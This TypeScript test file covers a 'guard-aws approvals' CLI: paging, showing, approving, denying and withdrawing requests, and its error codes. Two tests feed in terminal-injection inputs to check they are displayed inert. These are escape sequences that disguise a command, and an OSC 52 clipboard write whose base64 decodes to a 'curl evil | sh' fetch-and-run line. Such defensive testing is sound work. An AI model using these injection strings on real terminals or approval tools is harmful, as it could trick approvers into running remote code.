import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliContext } from '../../src/cli/context.js';
import { dispatch, reportError } from '../../src/cli/main.js';
import { RecordingHost } from '../helpers/recording-host.js';
import { freePort } from '../helpers/ports.js';
import { alice, approveDecision, dave, deleteBucket } from './fixtures.js';
import { startApprovalsServer, type ApprovalsServer } from './helpers/approvals-server.js';

// `guard-aws approvals …` through the real dispatcher, against the approval routes on a real socket, with access
// tokens the embedded IdP issued through the device flow (given as GUARD_AWS_TOKEN, as CI would).
let srv: ApprovalsServer;
const home = mkdtempSync(join(tmpdir(), 'guard-aws-cli-'));
beforeAll(async () => {
  srv = await startApprovalsServer();
});
afterAll(async () => {
  await srv?.close();
  rmSync(home, { recursive: true, force: true });
});

async function cli(who: string, argv: string[], opts: { broker?: string; interactive?: boolean; answer?: string } = {}) {
  const host = new RecordingHost(opts.interactive ?? false);
  const prompts: string[] = [];
  if (opts.interactive) {
    (host as RecordingHost & { prompt: (q: string) => Promise<string> }).prompt = async (q) => {
      prompts.push(q);
      return opts.answer ?? '';
    };
  }
  const ctx: CliContext = {
    host,
    env: { GUARD_AWS_BROKER: opts.broker ?? srv.url, GUARD_AWS_TOKEN: srv.tokens[who], XDG_CONFIG_HOME: home, XDG_STATE_HOME: home, GUARD_AWS_TOKEN_STORE: 'file' },
    cwd: home,
    exitCode: 0,
  };
  let code: number;
  try {
    code = await dispatch(['approvals', ...argv], ctx);
  } catch (e) {
    code = reportError(e, host, {});
  }
  return { code, out: host.stdout.join('\n'), err: host.stderr.join('\n'), stderr: host.stderr, prompts };
}

function open(requester = alice, bucket = `b-${Math.random().toString(36).slice(2, 8)}`, extra = {}) {
  return srv.service.open({ requester, invocation: deleteBucket(bucket, extra), target: 'prod', decision: approveDecision(), reason: 'cleanup after migration' });
}

describe('guard-aws approvals', () => {
  it('list pages with --limit and --cursor: every request once, newest first, then no next', async () => {
    const mine = [];
    for (let i = 0; i < 5; i++) {
      mine.push((await open(dave)).id);
      srv.clock.advance(1);
    }
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let page = 0; page < 10; page++) {
      const r = await cli('dave', ['list', '--mine', '--limit', '2', '--json', ...(cursor ? ['--cursor', cursor] : [])]);
      expect(r.code).toBe(0);
      const body = JSON.parse(r.out) as { approvals: { id: string }[]; next?: string };
      seen.push(...body.approvals.map((x) => x.id));
      cursor = body.next;
      if (!cursor) break;
    }
    expect(seen).toEqual([...mine].reverse());
    const text = await cli('dave', ['list', '--mine', '--limit', '2']);
    expect(text.err).toMatch(/^more: guard-aws approvals list --cursor [A-Za-z0-9_-]+$/m);
    expect((await cli('dave', ['list', '--cursor', 'not a cursor!'])).code).toBe(64);
    // A well-formed but forged cursor is refused by the broker as a bad request, not an internal error.
    expect((await cli('dave', ['list', '--cursor', 'AAAA'])).code).toBe(64);
  });

  it('list --json shows an approver what they can decide', async () => {
    const a = await open();
    const r = await cli('bob', ['list', '--decide', '--json']);
    expect(r.code).toBe(0);
    const list = (JSON.parse(r.out) as { approvals: { id: string; canDecide: boolean }[] }).approvals;
    expect(list.find((x) => x.id === a.id)).toMatchObject({ canDecide: true });
    const text = await cli('bob', ['list']);
    expect(text.out).toMatch(/^ID\s+STATUS\s+REQUESTER\s+TARGET\s+EXPIRES\s+COMMAND/);
    expect(text.out).toContain(`${a.id}`);
    expect(text.out).toContain('* aws s3api delete-bucket --bucket');
  });

  it('show: the full parsed call, risks, rule, requester, reason, approvals so far and expiry', async () => {
    const a = await open();
    const r = await cli('bob', ['show', a.id]);
    expect(r.code).toBe(0);
    for (const line of [
      `Request     ${a.id}  pending (0 of 1 approval)`,
      'Requester   Alice (alice)',
      'Reason      cleanup after migration',
      `Command     aws ${a.argv.join(' ')}`,
      'Target      prod (us-east-1)',
      'Operation   s3 DeleteBucket',
      `  s3:DeleteBucket  ${a.resources[0]}`,
      'Risks       write, destructive',
      'Rule        destructive-needs-approval (policies/default.yaml:12): destructive calls need a second person',
      'Approvers   approvers; 1 needed, 0 so far',
      `Expires     ${a.expiresAt} (in 14m)`,
    ]) {
      expect(r.out).toContain(line);
    }
    expect(r.out).toContain(`guard-aws approvals approve ${a.id}`);
  });

  it('approve: refused for the requester (77) and outsiders (77); an approver approves with a comment', async () => {
    const a = await open();
    const self = await cli('alice', ['approve', a.id, '--comment', 'mine']);
    expect(self.code).toBe(77);
    expect(self.stderr).toHaveLength(1);
    expect(self.err).toMatch(/cannot approve your own request/);
    const outsider = await cli('dave', ['approve', a.id]);
    expect(outsider.code).toBe(77);
    expect(outsider.err).toMatch(/only members of approvers/);
    const ok = await cli('bob', ['approve', a.id, '--comment', 'checked the backup']);
    expect(ok.code).toBe(0);
    expect(ok.out).toBe(`${a.id}: approved; alice may now run it once (until ${(await srv.service.get(a.id))!.expiresAt})`);
    const shown = await cli('alice', ['show', a.id]);
    expect(shown.out).toMatch(/approved by bob at \S+: checked the backup/);
  });

  it('deny: final, with the comment shown to the requester', async () => {
    const a = await open();
    const d = await cli('carol', ['deny', a.id, '--comment', 'use the staging account']);
    expect(d.code).toBe(0);
    expect(d.out).toBe(`${a.id}: denied`);
    const shown = await cli('alice', ['show', a.id, '--json']);
    expect(JSON.parse(shown.out).denial).toMatchObject({ by: 'carol', comment: 'use the staging account' });
    const late = await cli('bob', ['approve', a.id]);
    expect(late.code).toBe(77);
    expect(late.err).toMatch(/is denied/);
  });

  it('withdraw: only the requester', async () => {
    const a = await open(dave);
    expect((await cli('bob', ['withdraw', a.id])).code).toBe(77);
    const w = await cli('dave', ['withdraw', a.id]);
    expect(w.code).toBe(0);
    expect((await srv.service.get(a.id))!.status).toBe('withdrawn');
  });

  it('on a terminal, shows the request and asks before deciding', async () => {
    const a = await open();
    const no = await cli('bob', ['approve', a.id], { interactive: true, answer: 'n' });
    expect(no.prompts).toEqual([`Approve ${a.id}? [y/N] `]);
    expect(no.err).toContain('Command     aws s3api delete-bucket');
    expect(no.err).toContain('Nothing was decided.');
    expect((await srv.service.get(a.id))!.status).toBe('pending');
    const yes = await cli('bob', ['approve', a.id], { interactive: true, answer: 'y' });
    expect(yes.code).toBe(0);
    expect((await srv.service.get(a.id))!.status).toBe('approved');
  });

  it('terminal escape sequences in a request cannot disguise the command shown to an approver', async () => {
    const argv = ['s3api', 'delete-bucket', '--bucket', 'prod-data\u001b[2K\rs3api list-buckets'];
    const a = await open(alice, 'x', { argv, canonicalArgv: argv });
    const r = await cli('bob', ['show', a.id]);
    expect(r.out).not.toContain('\u001b');
    expect(r.out).not.toContain('\r');
    expect(r.out).toContain("'prod-data\\x1b[2K\\x0ds3api list-buckets'");
  });

  it('clear-screen, OSC 52 clipboard writes and bidi overrides in argv, reason and comments are shown inert', async () => {
    const attack = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u202egnp.exe';
    const argv = ['s3api', 'delete-bucket', '--bucket', `b${attack}`];
    const a = await srv.service.open({ requester: alice, invocation: deleteBucket('b', { argv, canonicalArgv: argv }), target: 'prod', decision: approveDecision(), reason: `why ${attack}` });
    for (const args of [['show', a.id], ['list']]) {
      const r = await cli('bob', args);
      expect(r.code).toBe(0);
      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    }
    const shown = await cli('bob', ['show', a.id]);
    expect(shown.out).toContain("'b\\x1b[2J\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\u202egnp.exe'");
    expect(shown.out).toContain('Reason      why \\x1b[2J');
  });

  it('errors: unknown id 77 (as for a used or closed one), bad options 64, broker down 69, no broker 64', async () => {
    expect((await cli('bob', ['show', 'apr_nosuchrequest'])).code).toBe(77);
    expect((await cli('bob', ['list', '--status', 'maybe'])).code).toBe(64);
    expect((await cli('bob', ['list', '--limit', '0'])).code).toBe(64);
    expect((await cli('bob', ['approve', 'x', '--comment', 'y'.repeat(1001)])).code).toBe(64);
    const down = await cli('bob', ['list'], { broker: `http://127.0.0.1:${await freePort()}` });
    expect(down.code).toBe(69);
    expect(down.err).toMatch(/broker unreachable/);
    const host = new RecordingHost();
    const code = await dispatch(['approvals', 'list'], { host, env: { XDG_CONFIG_HOME: home, GUARD_AWS_TOKEN: 'x' }, cwd: home, exitCode: 0 }).catch((e) =>
      reportError(e, host, {}),
    );
    expect(code).toBe(64);
    expect(host.stderr.join('')).toMatch(/no broker/);
  });
});
